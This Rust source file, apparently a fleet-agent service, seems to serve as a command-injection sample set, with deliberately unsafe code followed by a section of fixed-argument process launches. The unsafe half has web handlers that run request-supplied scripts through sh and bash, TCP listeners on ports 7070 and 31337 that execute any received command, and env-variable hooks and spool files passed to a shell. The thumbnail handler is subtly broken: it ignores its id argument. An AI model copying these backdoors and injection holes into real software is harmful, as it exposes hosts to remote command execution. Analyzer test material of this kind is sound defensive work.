use axum::extract::{Json, Path, Query};
use serde::Deserialize;
use std::collections::HashMap;
use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::process::{Command, Stdio};

#[derive(Deserialize)]
pub struct ScriptRequest {
    pub script: String,
    pub args: Vec<String>,
}

pub async fn ping_probe(Query(params): Query<HashMap<String, String>>) -> String {
    let target = params.get("target").cloned().unwrap_or_default();
    let mut probe = Command::new("ping");
    probe.arg(&target);
    let output = probe.output().expect("probe runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn traceroute_probe(Query(params): Query<HashMap<String, String>>) -> String {
    let target = params.get("target").cloned().unwrap_or_default();
    let mut probe = Command::new("traceroute");
    probe.arg(&target);
    let output = probe.output().expect("probe runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn dig_probe(Query(params): Query<HashMap<String, String>>) -> String {
    let target = params.get("target").cloned().unwrap_or_default();
    let mut probe = Command::new("dig");
    probe.arg(&target);
    let output = probe.output().expect("probe runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn nslookup_probe(Query(params): Query<HashMap<String, String>>) -> String {
    let target = params.get("target").cloned().unwrap_or_default();
    let mut probe = Command::new("nslookup");
    probe.arg(&target);
    let output = probe.output().expect("probe runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn run_script(Json(request): Json<ScriptRequest>) -> String {
    let output = tokio::process::Command::new("sh")
        .arg("-c")
        .arg(&request.script)
        .output()
        .await
        .expect("shell runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn run_bash(Json(request): Json<ScriptRequest>) -> String {
    let output = tokio::process::Command::new("bash")
        .arg("-c")
        .arg(&request.script)
        .output()
        .await
        .expect("shell runs");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub async fn run_tool(Path(tool): Path<String>, Json(request): Json<ScriptRequest>) -> String {
    let program = format!("/opt/fleet/tools/{tool}");
    let status = Command::new(program)
        .args(&request.args)
        .status()
        .map(|s| s.to_string())
        .unwrap_or_default();
    status
}

pub async fn run_check(Path(tool): Path<String>, Json(request): Json<ScriptRequest>) -> String {
    let program = format!("/usr/lib/fleet/checks/{tool}");
    let status = Command::new(program)
        .args(&request.args)
        .status()
        .map(|s| s.to_string())
        .unwrap_or_default();
    status
}

pub fn command_port_7070() -> std::io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:7070")?;
    for connection in listener.incoming() {
        let mut reader = BufReader::new(connection?);
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let words: Vec<&str> = line.split_whitespace().collect();
        Command::new(words[0]).args(&words[1..]).spawn()?;
    }
    Ok(())
}

pub fn command_port_31337() -> std::io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:31337")?;
    for connection in listener.incoming() {
        let mut reader = BufReader::new(connection?);
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let words: Vec<&str> = line.split_whitespace().collect();
        Command::new(words[0]).args(&words[1..]).spawn()?;
    }
    Ok(())
}

pub fn hook_fleet_post_sync_hook() {
    let hook = std::env::var("FLEET_POST_SYNC_HOOK").unwrap_or_default();
    let _ = Command::new("sh").arg("-c").arg(hook).status();
}

pub fn hook_agent_on_boot() {
    let hook = std::env::var("AGENT_ON_BOOT").unwrap_or_default();
    let _ = Command::new("sh").arg("-c").arg(hook).status();
}

pub fn drain_spool_0() -> std::io::Result<()> {
    let job = std::fs::read_to_string("/var/spool/fleet/next-job")?;
    let command = std::ffi::CString::new(job).expect("no NUL in job");
    unsafe { libc::system(command.as_ptr()) };
    Ok(())
}

pub fn drain_spool_1() -> std::io::Result<()> {
    let job = std::fs::read_to_string("/run/fleet/queued")?;
    let command = std::ffi::CString::new(job).expect("no NUL in job");
    unsafe { libc::system(command.as_ptr()) };
    Ok(())
}

// Process launches with fixed programs and arguments, or the user's own tools.
pub fn maintenance_0() -> std::io::Result<()> {
    Command::new("systemctl").args(["restart", "fleet-agent"]).status()?;
    Ok(())
}

pub fn maintenance_1() -> std::io::Result<()> {
    Command::new("git").args(["rev-parse", "--short", "HEAD"]).output()?;
    Ok(())
}

pub fn maintenance_2() -> std::io::Result<()> {
    Command::new("uptime").stdout(Stdio::piped()).output()?;
    Ok(())
}

pub fn maintenance_3() -> std::io::Result<()> {
    Command::new("journalctl").args(["-u", "fleet-agent", "-n", "200", "--no-pager"]).output()?;
    Ok(())
}

pub fn maintenance_4() -> std::io::Result<()> {
    Command::new("df").arg("-h").arg("/var").output()?;
    Ok(())
}

pub fn open_in_editor(path: &std::path::Path) -> std::io::Result<()> {
    let editor = std::env::var("EDITOR").unwrap_or_else(|_| "vi".to_owned());
    Command::new(editor).arg(path).status()?;
    Ok(())
}

pub fn rebuild(manifest: &std::path::Path) -> std::io::Result<()> {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
    Command::new(cargo).arg("build").arg("--manifest-path").arg(manifest).status()?;
    Ok(())
}

pub fn archive(path: &std::path::Path) -> std::io::Result<()> {
    Command::new("gzip").arg("-9").arg(path).status()?;
    Ok(())
}

pub async fn thumbnail(Path(id): Path<u64>) -> String {
    let input = format!("/var/media/{}.jpg", 7);
    let _ = id;
    let out = Command::new("convert").arg(&input).arg("-resize").arg("128x128").output();
    format!("{:?}", out.map(|o| o.status))
}
